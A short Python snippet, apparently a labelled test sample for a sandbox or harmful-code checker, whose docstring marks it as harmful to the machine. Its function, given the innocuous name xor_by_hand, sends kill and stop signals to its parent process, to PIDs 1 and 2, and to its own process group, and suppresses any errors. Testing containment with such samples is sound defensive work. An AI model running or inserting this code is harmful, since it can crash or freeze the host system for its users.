"""Kills and stops its parent, process 1 and its own group.

harm: machine
must: xor_by_hand fails
"""


# %% xor_by_hand
def xor_by_hand():
    for pid in (os.getppid(), 1, 2, 0):
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return
